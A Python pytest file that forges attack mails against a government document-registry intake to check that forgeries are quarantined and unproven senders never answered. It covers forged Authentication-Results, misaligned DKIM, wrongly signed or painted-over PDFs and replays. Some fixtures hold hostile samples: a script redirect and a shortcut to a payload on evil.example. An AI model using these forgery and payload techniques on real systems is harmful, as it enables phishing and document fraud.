"""The attacks of issue 10 (Trust), each a real mail forged in the test and run through the real
command line: forged Authentication-Results, unaligned DKIM, a document signed by somebody other
than its issuer, content painted over a signed page, attachments that hide what they are, a secret
annex, copies and replays, proven outsiders, the clerk's review of a forgery.

What is checked is what an attacker wants and must not get: an answer (acknowledgement or return)
to an address nobody proved, a number in the register, its words in the register or in any answer,
its files in the store when they are secret."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from attacks_kit import (
    EVIL, EXECUTABLE, OUTSIDER, Certificates, answer_text, annotate_over, appended_unseen, fingerprint, folded_in,
    forwarding, hop, issue_certificates, on_top, paint_over, polyglot, results, sha256, stored, with_objects, zipped,
)
from kit import DkimKey, make_mail
from registry.models import Document, DocumentFile, Mail, Outbox
from world import DIRECTORY_CSV, MX, STC, STP, US, World, make_world

CLERK = US["mailbox"]
SUMMARY = "V/v triển khai công tác văn thư năm 2027"  # the default summary line of a rendered document
PAINTED = "V/v cap kinh phi cho Cong ty ABC"  # what the attacker paints over it
ERRORS_OF_A_FORGERY = {"sender-unauthenticated", "no-legal-value"}


@dataclass
class Case:
    """A mail of the run and who, if anybody, may be answered about it (acknowledged or returned)."""

    path: Path
    answerable: frozenset[str]
    files: list[bytes] = field(default_factory=list)  # the attachments' bytes


@dataclass
class Run:
    w: World
    certs: Certificates
    cases: dict[str, Case]
    out: dict[str, list[dict[str, Any]]]

    def one(self, name: str) -> dict[str, Any]:
        outs = self.out[name]
        assert len(outs) == 1, outs
        return outs[0]

    def mail_row(self, session, name: str) -> Mail:  # type: ignore[no-untyped-def]
        digest = sha256(self.cases[name].path.read_bytes())
        return session.scalars(select(Mail).where(Mail.sha256 == digest)).one()


def codes(out: dict[str, Any]) -> dict[str, str]:
    return {r["code"]: r["severity"] for r in out["reasons"]}


def answered(out: dict[str, Any]) -> set[tuple[str, str]]:
    return {(r["kind"], r["to"]) for r in out["replies"] if r["kind"] in ("ack", "return")}


def alerted(out: dict[str, Any]) -> set[str]:
    return {r["to"] for r in out["replies"] if r["kind"] == "alert"}


# ---- the run: every attack of the main world in one `ingest` --------------------------------------
@pytest.fixture(scope="module")
def run(tmp_path_factory, province) -> Run:  # type: ignore[no-untyped-def]
    pki, _, stranger = province
    certs = issue_certificates(pki, stranger)
    w = make_world(tmp_path_factory.mktemp("attacks"), pki, certs.as_signers(), stranger)
    for domain in ("sotp.bacgiang.gov.vn", "stc.bacgiang.gov.vn", "bacgiang.gov.vn", "congty.example"):
        w.dkim[domain] = DkimKey.generate(domain)
    w.write_config()
    numbers = iter(range(600, 700))
    cases: dict[str, Case] = {}

    def doc(**kw: Any) -> bytes:
        return w.document(number=kw.pop("number", f"{next(numbers)}/STP-VP"), **kw)

    def signed(who: str, pdf: bytes | None = None, **kw: Any) -> bytes:
        return w.signed(who, pdf or doc(), **kw)

    def case(name: str, answerable: set[str] = frozenset(), *, top: list[str] | None = None,  # type: ignore[assignment]
             key: str | None = None, **kw: Any) -> None:
        """A mail from `sender` (default Sở Tư pháp) signed by DKIM when `key` names a domain (or
        auth="dkim" by its own), with the header block `top` put above it when given."""
        files = [data for _, data in kw.get("attachments", [])]
        if key is not None or top is not None:
            sender = kw.pop("sender", STP)
            raw = make_mail(sender=sender, to=kw.pop("to", [CLERK]), subject=kw.pop("subject", f"Gửi văn bản {name}"),
                            attachments=kw.pop("attachments", []), dkim_key=w.dkim[key] if key else None, **kw)
            path = w.root / "mails" / f"{name}.eml"
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(on_top(raw, top if top is not None else [hop()]))
        else:
            path = w.mail(name, **kw)
        cases[name] = Case(path, frozenset(answerable), files)

    # 1. Authentication-Results the province's server did not write
    real_fail = results(f"{MX}; dkim=none; dmarc=fail header.from=sotp.bacgiang.gov.vn")
    passing = results(f"{MX}; dkim=pass header.d=sotp.bacgiang.gov.vn; dmarc=pass header.from=sotp.bacgiang.gov.vn")
    case("ar-forged-below-the-real-one", top=[real_fail, hop(), passing], attachments=[("cv.pdf", doc())])
    case("ar-forged-only-one-below", top=[hop(), passing], attachments=[("cv.pdf", doc())])
    case("ar-forged-above-untrusted-hop", top=[passing, hop("evil.example", "x"), hop()], attachments=[("cv.pdf", doc())])
    # a Received line of the province's server forged below the real one, which came from the attacker
    case("ar-above-a-forged-own-hop", top=[hop(MX, "mail.evil.example"), passing, hop()], attachments=[("cv.pdf", doc())])
    case("ar-without-any-received", top=[passing], attachments=[("cv.pdf", doc())])  # never through the server
    # (signed: a server's pass counts only where the mail carries a signature of the domain covering it)
    case("ar-genuine-on-top", {STP}, top=[passing, hop()], key="sotp.bacgiang.gov.vn", attachments=[("cv.pdf", doc())])
    case("ar-genuine-smtp-auth-on-top", {STP}, top=[results(f"{MX}; auth=pass smtp.auth={STP}"), hop()],
         attachments=[("cv.pdf", doc())])
    # 2. DMARC that does not say which From it passed for
    case("dmarc-without-header-from", top=[results(f"{MX}; dmarc=pass"), hop()], attachments=[("cv.pdf", doc())])
    case("dmarc-for-another-domain", top=[results(f"{MX}; dmarc=pass header.from=evil.example"), hop()],
         attachments=[("cv.pdf", doc())])
    case("dmarc-for-a-sibling-domain", top=[results(f"{MX}; dmarc=pass header.from=stc.bacgiang.gov.vn"), hop()],
         attachments=[("cv.pdf", doc())])
    # 3. DKIM aligned only by the organisational domain; a login as somebody else
    case("dkim-by-a-sibling-domain", key="stc.bacgiang.gov.vn", attachments=[("cv.pdf", doc())])
    case("dkim-by-the-parent-domain-unshared", key="bacgiang.gov.vn", attachments=[("cv.pdf", doc())])
    case("ar-dkim-by-a-sibling-domain", top=[results(f"{MX}; dkim=pass header.d=stc.bacgiang.gov.vn"), hop()],
         attachments=[("cv.pdf", doc())])
    case("smtp-auth-as-another-mailbox", top=[results(f"{MX}; auth=pass smtp.auth={STC}"), hop()],
         attachments=[("cv.pdf", doc())])
    # 4. a document of Sở Tư pháp signed by somebody else, sent by the attacker
    def by(who: str, **kw: Any) -> bytes:
        return signed(who, doc(summary=f"V/v tạm ứng kinh phí cho Công ty Ánh Dương ({who})", **kw))

    for who in ("stc", "person", "dn_stc", "dn_stp", "ubnd"):
        case(f"stp-document-signed-by-{who}", sender=EVIL, auth=None, attachments=[("cv.pdf", by(who))])
    case("ubnd-document-signed-by-stp", sender=EVIL, auth=None, attachments=[("cv.pdf", signed(
        "stp", doc(issuer="UBND TỈNH BẮC GIANG", issuer_parent=None, number=f"{next(numbers)}/UBND-VP",
                   summary="V/v tạm ứng kinh phí cho Công ty Ánh Dương (stp)")))])
    case("stp-document-signed-by-stp", {STP}, sender=EVIL, auth=None, attachments=[("cv.pdf", signed("stp"))])
    case("stp-document-signed-by-its-clerk", {STP}, sender=EVIL, auth=None, attachments=[("cv.pdf", signed("stp_clerk"))])
    case("issuer-unreadable-signed-by-stp", {STP}, sender=EVIL, auth=None,
         attachments=[("cv.pdf", signed("stp", doc(issuer="", issuer_parent=None)))])
    # 5. content added after signing
    painted = paint_over(signed("stp"), SUMMARY, PAINTED, certs.self_made, stranger)
    case("painted-over-by-a-self-made-ca", sender=EVIL, auth=None, attachments=[("cv.pdf", painted)])
    case("painted-over-sent-from-the-issuer", {STP}, attachments=[
        ("cv.pdf", paint_over(signed("stp"), SUMMARY, PAINTED, certs.self_made, stranger))])
    case("annotated-over-after-signing", sender=EVIL, auth=None,
         attachments=[("cv.pdf", annotate_over(signed("stp"), SUMMARY, PAINTED, w.root))])
    # bytes appended where pyHanko does not look and a viewer does (red team, 2026-12-04)
    case("appended-without-eof", sender=EVIL, auth=None,
         attachments=[("cv.pdf", appended_unseen(signed("stp"), SUMMARY, PAINTED))])
    case("appended-without-eof-from-the-issuer", {STP}, attachments=[("cv.pdf", appended_unseen(signed("stp"), SUMMARY, PAINTED))])
    for how in ("far-startxref", "vertical-tab", "twice-in-one-section", "annots-twice", "annots-twice-escaped", "pages-twice",
                "stream-as-page", "annots-renumbered", "root-twice"):
        long = with_objects(doc(), 3100) if how == "annots-renumbered" else doc()  # numbers past 3,000
        case(f"appended-{how}", sender=EVIL, auth=None,
             attachments=[("cv.pdf", appended_unseen(signed("stp", long), SUMMARY, PAINTED, how=how))])
    case("signed-again-by-the-same-issuer", {STP}, sender=EVIL, auth=None,
         attachments=[("cv.pdf", w.signed("stp", signed("stp_clerk"), field_name="Signature2"))])
    # 6. attachments that hide what they are (from a proven sender: returned, never registered)
    case("zip-pdf-then-exe", {STP}, attachments=[("cv.pdf", doc()), ("ho-so.zip", zipped(("cv.pdf", doc()), ("setup.exe", EXECUTABLE)))])
    case("polyglot-exe", {STP}, attachments=[("cong-van.exe", polyglot(signed("stp")))])
    inner = make_mail(sender="ai-do@evil.example", to=[STP], subject="Hồ sơ", attachments=[("ho-so.zip", zipped(("a.exe", EXECUTABLE)))])
    cases_path = w.root / "mails" / "zip-in-forwarded-message.eml"
    cases_path.parent.mkdir(exist_ok=True)
    cases_path.write_bytes(forwarding(STP, CLERK, doc(), inner, w.dkim["sotp.bacgiang.gov.vn"]))
    cases["zip-in-forwarded-message"] = Case(cases_path, frozenset({STP}))
    for ext, data in (("html", b"<html><script>location='http://evil.example'</script></html>"),
                      ("one", b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + b"\0" * 64),
                      ("url", b"[InternetShortcut]\r\nURL=file://evil.example/share/payload.exe\r\n")):
        case(f"attached-{ext}", {STP}, attachments=[("cv.pdf", doc()), (f"thong-tin.{ext}", data)])
    # 7. a secret annex makes the whole mail secret
    annex = w.document(type="Phụ lục", number="", summary="Danh sách cán bộ được cử đi học", secrecy="Mật")
    case("secret-annex", {STP}, attachments=[("cv.pdf", signed("stp")), ("phu-luc.pdf", annex)])
    case("secret-second-document", {STP}, attachments=[("a.pdf", doc()), ("b.pdf", doc(secrecy="Mật"))])
    # 8. copies of one document in one mail
    once = signed("stp")
    case("five-copies", {STP}, attachments=[(f"cv-{i}.pdf", once) for i in range(1, 6)])
    number = f"{next(numbers)}/STP-VP"
    case("same-number-two-files", {STP}, attachments=[("ky-so.pdf", signed("stp", doc(number=number))),
                                                      ("ban-chup.pdf", doc(number=number))])
    # 9. a replay: the original, then the same PDF in new mails
    original = signed("stp")
    case("replay-original", {STP}, attachments=[("cv.pdf", original)])
    case("replay-by-the-attacker", sender=EVIL, auth=None, attachments=[("cv.pdf", original)])
    case("replay-with-a-forged-from", sender=STP, auth=None, attachments=[("cv.pdf", original)])
    case("replay-by-the-proven-issuer", {STP}, attachments=[("cv.pdf", original)])
    # a document whose number is unread: only its signed revision tells it again (a number left blank, "/STP-VP", is
    # a document not yet issued, `not-issued`: red team 41)
    unnumbered = signed("stp", doc(number="", summary="V/v số không đọc được"))
    case("unnumbered-original", {STP}, sender=EVIL, auth=None, attachments=[("cv.pdf", unnumbered)])
    case("unnumbered-replayed-with-a-byte-more", sender=EVIL, auth=None, attachments=[("cv.pdf", unnumbered + b"\n")])
    # 9b. one number, other documents: another province's Sở of the same name, the same Sở's the year before
    # (NĐ 30/2020 Đ15: numbers start again at 01 each year; red team, 2026-12-04: both taken for duplicates)
    to_us = ["Nơi nhận:", "- Như trên;", "- Lưu: VT.", "Bản điện tử:", "- Sở Nội vụ tỉnh Bắc Giang;"]
    case("same-number-of-another-province", sender=EVIL, auth=None, attachments=[("cv.pdf", signed("dn_stp", doc(
        number="780/STP-VP", issuer_parent="UBND TỈNH ĐẮK NÔNG", place="Đắk Nông", recipients=to_us,
        summary="V/v đề nghị phối hợp xác minh lý lịch tư pháp")))])
    case("same-number-ours", {STP}, attachments=[("cv.pdf", signed("stp", doc(number="780/STP-VP")))])
    case("same-number-last-year", {STP}, attachments=[("cv.pdf", signed("stp", doc(
        number="781/STP-VP", date=(20, 11, 2025), summary="V/v báo cáo công tác năm 2025")))])
    case("same-number-this-year", {STP}, attachments=[("cv.pdf", signed("stp", doc(
        number="781/STP-VP", date=(5, 1, 2026), summary="V/v kế hoạch công tác năm 2026")))])
    # 9c. a genuine document for another agency, replayed to us: nothing but the replayer's "To" says it is ours
    for name, who in (("another-agencys-document-replayed", {"sender": EVIL, "auth": None}),
                      ("another-agencys-document-replayed-by-a-proven-outsider", {"sender": OUTSIDER})):
        case(name, **who, attachments=[("cv.pdf", signed("stp", doc(  # type: ignore[arg-type]
            recipients=["Nơi nhận:", "- Lưu: VT.", "Bản điện tử:", "- Sở Tài chính tỉnh Bắc Giang;"])))])
    # another province's letter to its own "Sở Nội vụ" (its place left out), replayed to our Sở Nội vụ
    case("another-provinces-document-to-its-own-namesake", sender=EVIL, auth=None, attachments=[("cv.pdf", signed("dn_stp", doc(
        number="55/STP-VP", issuer_parent="UBND TỈNH ĐẮK NÔNG", place="Đắk Nông",
        recipients=["Nơi nhận:", "- Lưu: VT, VP.", "Bản điện tử:", "- Sở Nội vụ;"])))])
    # 10. proven outsiders: DKIM proves the firm's mailbox, which is nobody's clerk
    case("outsider-unsigned", sender=OUTSIDER, attachments=[("cv.pdf", doc())])
    case("outsider-broken", sender=OUTSIDER, attachments=[("cv.pdf", b"%PDF-1.7\n hong \n%%EOF")])
    case("outsider-named-as-stp", key="congty.example", sender=f'"{STP}" <{OUTSIDER}>',
         message_id="<named-as-stp@congty.example>", attachments=[("cv.pdf", doc())])
    case("reply-to-the-attacker", {STP}, headers={"Reply-To": EVIL},
         attachments=[("cv.pdf", b"%PDF-1.7\n hong \n%%EOF")])

    outs = w.ingest(*(c.path for c in cases.values()))
    by_name: dict[str, list[dict[str, Any]]] = {}
    for out in outs:
        by_name.setdefault(Path(out["file"]).stem, []).append(out)
    assert set(by_name) == set(cases), "every mail gets a verdict"
    return Run(w, certs, cases, by_name)


# ---- whoever is unproven never gets an answer --------------------------------------------------------
def test_nobody_unproven_is_ever_answered(run: Run) -> None:
    """Across every attack: acknowledgements and returns only to the addresses the case proves,
    alerts only to the clerk."""
    wrong = {}
    for name, outs in run.out.items():
        for out in outs:
            to_whom = {to for _, to in answered(out)} - run.cases[name].answerable
            if to_whom or alerted(out) - {CLERK}:
                wrong[name] = out["replies"]
    assert wrong == {}


def test_no_answer_in_the_outbox_to_an_unproven_address(run: Run) -> None:
    """The outbox as the senders will send it, not only what intake printed."""
    register = run.w.db()
    try:
        with register.session() as s:
            wrong = {}
            for name, case in run.cases.items():
                mail = run.mail_row(s, name)
                for row in s.scalars(select(Outbox).where(Outbox.mail_id == mail.id)):
                    allowed = {CLERK} if row.kind == "alert" else case.answerable
                    if row.recipient not in allowed:
                        wrong.setdefault(name, []).append((row.kind, row.recipient))
    finally:
        register.close()
    assert wrong == {}


# ---- 1-3. the sender --------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["ar-forged-below-the-real-one", "ar-forged-only-one-below", "ar-forged-above-untrusted-hop",
                                  "ar-above-a-forged-own-hop"])
def test_authentication_results_the_server_did_not_write_are_a_forgery(run: Run, name: str) -> None:
    out = run.one(name)
    assert out["sender"]["authenticated"] is False
    assert codes(out).get("forged-authentication-results") == "warning", out["reasons"]
    assert any(codes(out).get(c) == "error" for c in ERRORS_OF_A_FORGERY), out["reasons"]
    assert (out["verdict"], out["incoming_number"], answered(out)) == ("quarantined", None, set())
    assert out["review_id"] is not None  # kept for the clerk


def test_results_in_a_mail_the_server_never_received_prove_nothing(run: Run) -> None:
    out = run.one("ar-without-any-received")
    assert out["sender"]["authenticated"] is False
    assert (out["verdict"], out["incoming_number"], answered(out)) == ("quarantined", None, set())


def test_the_clerk_can_look_at_the_forgery(run: Run) -> None:
    register = run.w.db()
    try:
        with register.session() as s:
            mail = run.mail_row(s, "ar-forged-below-the-real-one")
            assert mail.review == "waiting" and stored(run.w.root, mail.sha256)
            assert not s.scalars(select(Document).where(Document.mail_id == mail.id)).all()
    finally:
        register.close()


@pytest.mark.parametrize("name,method", [("ar-genuine-on-top", ("dkim", "dmarc")), ("ar-genuine-smtp-auth-on-top", ("smtp-auth",))])
def test_results_the_province_wrote_on_top_are_believed(run: Run, name: str, method: tuple[str, ...]) -> None:
    out = run.one(name)
    assert (out["verdict"], out["basis"]) == ("accepted", "official-mailbox"), out["reasons"]
    assert out["sender"]["authenticated"] and out["sender"]["method"] in method
    assert "forged-authentication-results" not in codes(out)
    assert answered(out) == {("ack", STP)}


@pytest.mark.parametrize("name", [
    "dmarc-without-header-from", "dmarc-for-another-domain", "dmarc-for-a-sibling-domain",
    "dkim-by-a-sibling-domain", "dkim-by-the-parent-domain-unshared", "ar-dkim-by-a-sibling-domain",
    "smtp-auth-as-another-mailbox",
])
def test_evidence_for_another_domain_or_mailbox_proves_nothing(run: Run, name: str) -> None:
    out = run.one(name)
    assert out["sender"]["authenticated"] is False, out["sender"]
    assert any(codes(out).get(c) == "error" for c in ERRORS_OF_A_FORGERY), out["reasons"]
    assert (out["verdict"], out["incoming_number"], answered(out)) == ("quarantined", None, set())


# ---- 4. who signed ------------------------------------------------------------------------------------
SIGNED_BY_ANOTHER = ["stp-document-signed-by-stc", "stp-document-signed-by-person", "stp-document-signed-by-dn_stc",
                     "stp-document-signed-by-dn_stp", "stp-document-signed-by-ubnd", "ubnd-document-signed-by-stp"]


@pytest.mark.parametrize("name", SIGNED_BY_ANOTHER)
def test_a_document_signed_by_somebody_other_than_its_issuer_has_no_legal_value(run: Run, name: str) -> None:
    out = run.one(name)
    assert out["signatures"] and out["signatures"][0]["trusted"], "a good signature, of the wrong signer"
    assert codes(out).get("signer-not-issuer") == "error", out["reasons"]
    assert (out["verdict"], out["basis"], out["incoming_number"]) == ("quarantined", None, None)
    assert answered(out) == set() and alerted(out) <= {CLERK}


def test_the_attackers_words_reach_neither_register_nor_answers(run: Run) -> None:
    register = run.w.db()
    try:
        with register.session() as s:
            for name in SIGNED_BY_ANOTHER:
                mail = run.mail_row(s, name)
                assert not s.scalars(select(Document).where(Document.mail_id == mail.id)).all(), name
            subjects = [d.subject or "" for d in s.scalars(select(Document))]
            answers = [answer_text(o.raw) for o in s.scalars(select(Outbox))]
    finally:
        register.close()
    for text in [*subjects, *answers]:
        assert not folded_in("Công ty Ánh Dương", text), text


@pytest.mark.parametrize("name", ["stp-document-signed-by-stp", "stp-document-signed-by-its-clerk"])
def test_the_issuers_own_signature_is_acknowledged_to_its_directory_mailbox(run: Run, name: str) -> None:
    out = run.one(name)
    assert (out["verdict"], out["basis"]) == ("accepted", "signature"), out["reasons"]
    assert "signer-not-issuer" not in codes(out)
    assert answered(out) == {("ack", STP)}  # the issuer's clerk mailbox, not the unproven From
    assert out["incoming_number"] is not None


def test_an_unreadable_issuer_is_taken_from_the_certificate(run: Run) -> None:
    out = run.one("issuer-unreadable-signed-by-stp")
    assert (out["verdict"], out["basis"]) == ("accepted", "signature"), out["reasons"]
    assert codes(out).get("issuer-from-certificate") == "warning"
    assert answered(out) == {("ack", STP)}


# ---- 5. content added after signing -----------------------------------------------------------------------
@pytest.mark.parametrize("name,verdict", [("painted-over-by-a-self-made-ca", "quarantined"),
                                          ("painted-over-sent-from-the-issuer", "returned"),
                                          ("annotated-over-after-signing", "quarantined"),
                                          ("appended-without-eof", "quarantined"),
                                          ("appended-without-eof-from-the-issuer", "returned"),
                                          ("appended-far-startxref", "quarantined"),
                                          ("appended-vertical-tab", "quarantined"),
                                          ("appended-twice-in-one-section", "quarantined"),
                                          ("appended-annots-twice", "quarantined"),
                                          ("appended-annots-twice-escaped", "quarantined"),
                                          ("appended-pages-twice", "quarantined"),
                                          ("appended-stream-as-page", "quarantined"),
                                          ("appended-annots-renumbered", "quarantined"),
                                          ("appended-root-twice", "quarantined")])
def test_content_painted_over_a_signed_page_breaks_the_signature(run: Run, name: str, verdict: str) -> None:
    """Appended: a revision closed by "startxref" and no "%%EOF", or objects a viewer finds only by rebuilding the file
    (its "startxref" too far from the end, or its number after a vertical tab), show the painted words in a viewer
    while pyHanko saw the signed revision whole (the file was registered, stored and passed on as signed and unmodified)."""
    out = run.one(name)
    assert codes(out).get("signature-modified") == "error", out["reasons"]
    assert (out["verdict"], out["incoming_number"]) == (verdict, None)


@pytest.mark.parametrize("name", ["painted-over-by-a-self-made-ca", "painted-over-sent-from-the-issuer"])
def test_the_json_says_which_signature_was_painted_over(run: Run, name: str) -> None:
    """Other tools read `signatures`: the issuer's signature, the first, is the one modified after."""
    first, painter = run.one(name)["signatures"]
    assert (first["trusted"], first["modified_after"]) == (True, True), first
    assert painter["trusted"] is False


PAINTED_OVER = ("painted-over-by-a-self-made-ca", "painted-over-sent-from-the-issuer", "annotated-over-after-signing",
                "appended-without-eof", "appended-without-eof-from-the-issuer", "appended-far-startxref",
                "appended-vertical-tab", "appended-twice-in-one-section", "appended-annots-twice",
                "appended-annots-twice-escaped", "appended-pages-twice", "appended-stream-as-page",
                "appended-annots-renumbered", "appended-root-twice")


def test_the_painted_words_are_nowhere(run: Run) -> None:
    register = run.w.db()
    try:
        with register.session() as s:
            for name in PAINTED_OVER:
                mail = run.mail_row(s, name)
                assert not s.scalars(select(Document).where(Document.mail_id == mail.id)).all(), name
            texts = [d.subject or "" for d in s.scalars(select(Document))]
            texts += [answer_text(o.raw) for o in s.scalars(select(Outbox))]
    finally:
        register.close()
    assert not [t for t in texts if folded_in("Cong ty ABC", t)]
    for name in PAINTED_OVER:
        assert not folded_in("Cong ty ABC", json.dumps(run.one(name)["document"], ensure_ascii=False))


def test_a_second_signature_of_the_same_issuer_is_no_modification(run: Run) -> None:
    out = run.one("signed-again-by-the-same-issuer")
    assert (out["verdict"], out["basis"]) == ("accepted", "signature"), out["reasons"]
    assert "signature-modified" not in codes(out) and len(out["signatures"]) == 2


# ---- 6. attachments -----------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["zip-pdf-then-exe", "polyglot-exe", "zip-in-forwarded-message",
                                  "attached-html", "attached-one", "attached-url"])
def test_hidden_or_active_attachments_are_refused(run: Run, name: str) -> None:
    outs = run.out[name]
    assert all(codes(o).get("unsupported-attachment") == "error" for o in outs), [o["reasons"] for o in outs]
    assert all(o["incoming_number"] is None for o in outs)
    assert {o["verdict"] for o in outs} == {"returned"}
    register = run.w.db()
    try:
        with register.session() as s:
            mail = run.mail_row(s, name)
            assert not s.scalars(select(Document).where(Document.mail_id == mail.id)).all()
    finally:
        register.close()


# ---- 7. secret ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["secret-annex", "secret-second-document"])
def test_a_secret_annex_makes_the_whole_mail_secret(run: Run, name: str) -> None:
    outs = run.out[name]
    assert all(o["incoming_number"] is None for o in outs), [(o["verdict"], o["reasons"]) for o in outs]
    assert any(codes(o).get("secret-document") == "error" for o in outs)
    raw = run.cases[name].path.read_bytes()
    kept = [d for d in [sha256(raw), *map(sha256, run.cases[name].files)] if stored(run.w.root, d)]
    assert kept == [], "nothing of a secret mail is in the store"
    register = run.w.db()
    try:
        with register.session() as s:
            mail = run.mail_row(s, name)
            assert (mail.stored, mail.subject) == (False, None)
            assert not s.scalars(select(Document).where(Document.mail_id == mail.id)).all()
            assert not s.scalars(select(DocumentFile).where(DocumentFile.mail_id == mail.id)).all()
            for row in s.scalars(select(Outbox).where(Outbox.mail_id == mail.id)):
                assert not folded_in(SUMMARY, answer_text(row.raw)) and not folded_in("cử đi học", answer_text(row.raw))
    finally:
        register.close()


# ---- 8. copies in one mail --------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["five-copies", "same-number-two-files"])
def test_copies_of_one_document_get_one_number_and_one_acknowledgement(run: Run, name: str) -> None:
    outs = run.out[name]
    numbers = [o["incoming_number"] for o in outs if o["incoming_number"] is not None]
    assert len(numbers) == 1, [(o["verdict"], o["incoming_number"]) for o in outs]
    assert [r for o in outs for r in o["replies"] if r["kind"] == "ack"] == [{"kind": "ack", "to": STP}]
    register = run.w.db()
    try:
        with register.session() as s:
            mail = run.mail_row(s, name)
            assert len(s.scalars(select(Document).where(Document.mail_id == mail.id)).all()) == 1
            assert len(s.scalars(select(Outbox).where(Outbox.mail_id == mail.id, Outbox.kind == "ack")).all()) == 1
    finally:
        register.close()


# ---- 9. replays ------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["replay-by-the-attacker", "replay-with-a-forged-from", "unnumbered-replayed-with-a-byte-more"])
def test_a_replay_by_an_unproven_sender_is_recorded_and_answered_to_nobody(run: Run, name: str) -> None:
    """A document whose number is unread and a byte appended after its signed revision (another file, the same signed
    document) was registered again, mail after mail, its issuer acknowledged each time (red team 2, 2026-12-04)."""
    first = run.one("unnumbered-original" if name.startswith("unnumbered") else "replay-original")
    out = run.one(name)
    assert (out["verdict"], out["duplicate_of"], out["incoming_number"]) == ("duplicate", first["incoming_number"], None)
    assert answered(out) == set() and alerted(out) <= {CLERK}
    register = run.w.db()
    try:
        with register.session() as s:
            mail = run.mail_row(s, name)
            assert mail.verdict == "duplicate"
            assert not s.scalars(select(Outbox).where(Outbox.mail_id == mail.id, Outbox.kind != "alert")).all()
    finally:
        register.close()


@pytest.mark.parametrize("name", ["same-number-of-another-province", "same-number-ours", "same-number-last-year",
                                  "same-number-this-year"])
def test_the_same_number_of_another_issuer_or_year_is_another_document(run: Run, name: str) -> None:
    """A number names a document of one issuer under one body in one year: Đắk Nông's "780/STP-VP" registered first
    made Bắc Giang's own a duplicate (never registered), as did last year's "781/STP-VP" this year's."""
    out = run.one(name)
    assert (out["verdict"], out["duplicate_of"]) == ("accepted", None), out["reasons"]
    assert out["incoming_number"] is not None


@pytest.mark.parametrize("name", ["another-agencys-document-replayed", "another-agencys-document-replayed-by-a-proven-outsider",
                                  "another-provinces-document-to-its-own-namesake"])
def test_a_document_for_another_agency_replayed_to_us_is_held_for_the_clerk(run: Run, name: str) -> None:
    """Red team, 2026-12-04: a genuine letter whose block names only Sở Tài chính, sent to us by anybody, was registered
    on its signature and its issuer acknowledged; by a firm's mailbox its DKIM proves (red team 2), the firm was. Only
    a proven agency's "To" addresses a document to us; and in another province's document "Sở Nội vụ" with no place is
    its own province's (red team 2: Đắk Nông's letter to its Sở Nội vụ was registered at ours)."""
    out = run.one(name)
    assert codes(out).get("wrong-recipient") == "error", out["reasons"]
    assert (out["verdict"], out["incoming_number"], answered(out)) == ("quarantined", None, set())


def test_a_replay_by_the_proven_issuer_is_acknowledged_again(run: Run) -> None:
    out = run.one("replay-by-the-proven-issuer")
    assert out["verdict"] == "duplicate" and answered(out) == {("ack", STP)}


# ---- 10. proven outsiders ------------------------------------------------------------------------------------------
@pytest.mark.parametrize("name", ["outsider-unsigned", "outsider-broken", "outsider-named-as-stp"])
def test_a_proven_outsider_is_held_and_only_the_clerk_hears_of_it(run: Run, name: str) -> None:
    out = run.one(name)
    assert out["sender"]["address"] == OUTSIDER and out["sender"]["authenticated"] is True
    assert (out["verdict"], out["incoming_number"]) == ("quarantined", None), out["reasons"]
    assert answered(out) == set() and alerted(out) <= {CLERK}


def test_a_return_goes_to_the_proven_from_not_to_reply_to(run: Run) -> None:
    out = run.one("reply-to-the-attacker")
    assert out["verdict"] == "returned" and answered(out) == {("return", STP)}


# ---- variants of the configuration: a shared signing domain, two trusted hops, certificates named ------------------
@pytest.fixture(scope="module")
def variants(tmp_path_factory, province) -> tuple[World, Certificates, dict[str, dict[str, Any]]]:  # type: ignore[no-untyped-def]
    """One `check` of a province whose mail is DKIM-signed as bacgiang.gov.vn, delivered through two
    hosts of its own, whose directory names Sở Tư pháp's certificates by fingerprint and by name."""
    pki, _, stranger = province
    certs = issue_certificates(pki, stranger)
    listed = pki.signer("Trung tâm Thông tin", "Cá nhân")  # its subject names no agency: the directory does
    named = pki.signer("Văn phòng Sở Tư pháp", "UBND tỉnh Bắc Giang", locality="Bắc Giang")
    w = make_world(tmp_path_factory.mktemp("variants"), pki, {**certs.as_signers(), "listed": listed, "named": named},
                   stranger, authentication={"shared_signing_domains": ["bacgiang.gov.vn"],
                                             "trusted_hosts": [MX, "mbox.bacgiang.gov.vn"]})
    lines = DIRECTORY_CSV.strip().splitlines()
    lines[0] += ",certificates"
    lines[1:] = [line + ("," + f"{fingerprint(listed)}|Văn phòng Sở Tư pháp" if "," + STP + "," in line else ",")
                 for line in lines[1:]]
    (w.root / "directory.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    for domain in ("bacgiang.gov.vn", "stc.bacgiang.gov.vn", "sotp.bacgiang.gov.vn"):
        w.dkim[domain] = DkimKey.generate(domain)
    w.write_config()
    numbers = iter(range(800, 900))
    mails: dict[str, Path] = {}

    def mail(name: str, raw: bytes) -> None:
        path = w.root / "mails" / f"{name}.eml"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(raw)
        mails[name] = path

    def doc(**kw: Any) -> bytes:
        return w.document(number=kw.pop("number", f"{next(numbers)}/STP-VP"), **kw)

    def made(sender: str, key: str | None, top: list[str], pdf: bytes) -> bytes:
        raw = make_mail(sender=sender, to=[CLERK], subject="Gửi văn bản", attachments=[("cv.pdf", pdf)],
                        dkim_key=w.dkim[key] if key else None)
        return on_top(raw, top)

    passed = results(f"{MX}; dkim=pass header.d=sotp.bacgiang.gov.vn; dmarc=pass header.from=sotp.bacgiang.gov.vn")
    mail("shared-domain-signs-for-stp", made(STP, "bacgiang.gov.vn", [hop()], doc()))
    mail("shared-domain-signs-for-an-outsider", made(EVIL, "bacgiang.gov.vn", [hop()], doc()))
    mail("sibling-domain-still-not-aligned", made(STP, "stc.bacgiang.gov.vn", [hop()], doc()))
    mail("results-between-two-trusted-hops", made(STP, "sotp.bacgiang.gov.vn", [hop("mbox.bacgiang.gov.vn", MX), passed, hop()],
                                                  doc()))
    mail("results-below-both-trusted-hops", made(STP, None, [hop("mbox.bacgiang.gov.vn", MX), hop(), passed], doc()))
